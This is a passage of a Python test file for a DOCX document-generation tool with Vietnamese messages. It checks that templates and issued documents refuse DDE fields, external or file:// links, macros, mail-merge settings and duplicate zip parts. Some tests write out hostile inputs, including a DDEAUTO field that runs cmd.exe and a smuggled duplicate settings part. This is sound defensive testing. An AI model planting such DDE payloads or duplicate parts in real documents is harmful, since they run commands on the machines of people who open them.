            assert b"attachedTemplate" not in archive.read(SETTINGS)

    result = cli("templates", "check", folder)
    assert result.code == 1
    result.assert_clean()
    assert f"{template}: " in result.text and f'"{part}"' in result.text
    assert "vanban gỡ nội dung này khi phát hành" in result.text, result.text


def test_removal_leaves_the_rest_of_the_template_as_it_was(tmp_path: Path) -> None:
    folder = _templates(tmp_path, "ke-hoach.docx", attached_template_on_the_web)
    compiled = CompiledTemplate((folder / "ke-hoach.docx").read_bytes(), None)
    with (
        zipfile.ZipFile(BytesIO(compiled.package)) as cleaned,
        zipfile.ZipFile(TEMPLATES / "ke-hoach.docx") as shipped,
    ):
        assert cleaned.namelist() == shipped.namelist() + [SETTINGS_RELS]
        for name in shipped.namelist():
            if name != SETTINGS:
                assert cleaned.read(name) == shipped.read(name), name
        assert b"Relationship " not in cleaned.read(SETTINGS_RELS)


# --- what passes ---------------------------------------------------------------------------------


def web_hyperlink_and_a_picture(p: Parts) -> None:
    link = p.rel(DOCUMENT_RELS, OFFICE + "hyperlink", "https://thapmuoi.dongthap.gov.vn/",
                 external=True)  # fmt: skip
    mail = p.rel(DOCUMENT_RELS, OFFICE + "hyperlink", "mailto:vanthu@thapmuoi.gov.vn",
                 external=True)  # fmt: skip
    p.add("word/media/image1.png", png())
    p.default("png", "image/png")
    image = p.rel(DOCUMENT_RELS, OFFICE + "image", "media/image1.png")
    p.body(
        paragraph(f'<w:hyperlink r:id="{link}"><w:r><w:t>Cổng thông tin</w:t></w:r></w:hyperlink>')
        + paragraph(f'<w:hyperlink r:id="{mail}"><w:r><w:t>Văn thư</w:t></w:r></w:hyperlink>')
        + picture(f'r:embed="{image}"')
        + paragraph(field(" PAGE ") + field(" NUMPAGES \\* MERGEFORMAT "))
    )


def test_a_web_hyperlink_a_picture_and_page_numbers_are_ordinary_content(
    tmp_path: Path, example_plan: Plan
) -> None:
    folder = _templates(tmp_path, "ke-hoach.docx", web_hyperlink_and_a_picture)
    assert render.template_warnings(folder / "ke-hoach.docx") == ()
    out = tmp_path / "out"
    report = run_issue(example_plan, out_dir=out, templates_dir=folder)
    assert report.exit_code == 0, [(s.job.relpath, s.reason) for s in report.statuses]
    _assert_clean(out)
    (plan_document,) = [p for p in documents(out) if p.name == "01-ke-hoach.docx"]
    with zipfile.ZipFile(plan_document) as archive:
        rels = archive.read(DOCUMENT_RELS)
        assert b"https://thapmuoi.dongthap.gov.vn/" in rels and b"media/image1.png" in rels
        assert archive.read("word/media/image1.png") == png()
    result = cli("templates", "check", folder)
    assert result.code == 0, result.text


def test_a_value_that_reads_like_a_field_is_text(example_plan: Plan) -> None:
    """A context value is escaped text: "DDEAUTO" or "<w:instrText>" in it is no field."""
    from vanban.documents.kinds import default_registry

    kind = default_registry().kinds[0]
    context = kind.build_context(example_plan, None)
    hostile = (
        'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" <w:instrText>DDEAUTO x</w:instrText>'
    )
    context = dict(context, plan=dict(context["plan"], intro=hostile))
    path = TEMPLATES / kind.template
    for data in (render.render_docx(path, context), render.render_docx_stock(path, context)):
        assert forbidden_in(data) == []
        check_docx(data)
        with zipfile.ZipFile(BytesIO(data)) as archive:
            body = archive.read(DOCUMENT)
        assert b"DDEAUTO c:\\windows" in body and b"&lt;w:instrText&gt;" in body


def test_a_field_that_appears_only_when_rendered_is_refused(
    monkeypatch: pytest.MonkeyPatch, example_plan: Plan
) -> None:
    """Each rendered part is checked again: whatever put a field there, the document is refused."""
    from vanban.documents.kinds import default_registry

    kind = default_registry().kinds[0]
    context = kind.build_context(example_plan, None)
    finish = CompiledTemplate._finish

    def planting(
        self: CompiledTemplate, xml: str, numbered: bool = False, sketch: Skeleton | None = None
    ) -> str:
        # Planted after the skeleton was taken: the document's checks must still see it.
        xml = finish(self, xml, numbered, sketch)
        if not xml.startswith("<w:body"):
            return xml
        at = xml.index(">") + 1
        return xml[:at] + paragraph(field(" DDE", "AUTO calc ")) + xml[at:]

    monkeypatch.setattr(CompiledTemplate, "_finish", planting)
    with pytest.raises(TemplateError) as raised:
        render.render_docx(TEMPLATES / kind.template, context)
    message = str(raised.value)
    assert "văn bản tạo ra có nội dung không được phép" in message, message
    assert "phần word/document.xml: trường" in message and "DDEAUTO" in message


def test_a_document_part_the_stock_path_adds_is_checked(tmp_path: Path) -> None:
    """The stock path's whole package is read again: a file link added by docxtpl is refused."""
    data = (TEMPLATES / "ke-hoach.docx").read_bytes()
    with zipfile.ZipFile(BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    rels = (
        parts[DOCUMENT_RELS]
        .decode()
        .replace(
            "</Relationships>",
            f'<Relationship Id="rIdX" Type="{OFFICE}hyperlink" Target="file:///C:/x.docx" '
            'TargetMode="External"/></Relationships>',
        )
    )
    parts[DOCUMENT_RELS] = rels.encode()
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, blob in parts.items():
            archive.writestr(name, blob)
    with pytest.raises(ContentRefused) as raised:
        check_docx(buffer.getvalue())
    assert "file:///C:/x.docx" in str(raised.value)


def test_the_shipped_templates_hold_nothing_off_the_list() -> None:
    for path in sorted(TEMPLATES.glob("*.docx")):
        compiled = CompiledTemplate(path.read_bytes(), None)
        assert compiled.removed == (), path.name
        assert forbidden_in(path.read_bytes()) == [], path.name


def test_every_part_of_every_issued_document_of_the_example(example_docs: Path) -> None:
    """No external relationship, no field but page numbers, no macro, no data binding, no
    unknown part, in any part of any document the example issues."""
    issued = documents(example_docs)
    assert len(issued) == EXAMPLE_ISSUED
    for path in issued:
        data = path.read_bytes()
        assert forbidden_in(data) == [], path
        check_docx(data)
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                blob = archive.read(name)
                assert b'TargetMode="External"' not in blob, (path, name)
                assert b"dataBinding" not in blob and b"vbaProject" not in blob, (path, name)


def test_a_part_twice_in_the_zip_is_refused_whichever_copy_a_reader_takes(
    tmp_path: Path,
) -> None:
    """Only one copy of a name would be inspected; Word's zip reader may take the other."""
    folder = tmp_path / "templates"
    shutil.copytree(TEMPLATES, folder)
    path = folder / "giay-moi.docx"
    with zipfile.ZipFile(path) as archive:
        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
    hidden = f'<w:settings xmlns:w="{W[1:-1]}"><w:mailMerge/></w:settings>'.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate name: that is the case
        archive.writestr(SETTINGS, hidden)
        for name, data in members:
            archive.writestr(name, data)
    out = tmp_path / "out"
    with pytest.raises(TemplateError) as caught:
        run_issue(EXAMPLE, out_dir=out, templates_dir=folder)
    assert "giay-moi.docx" in str(caught.value) and SETTINGS in str(caught.value)
    assert "hai phần cùng tên" in str(caught.value)
    assert not out.exists()
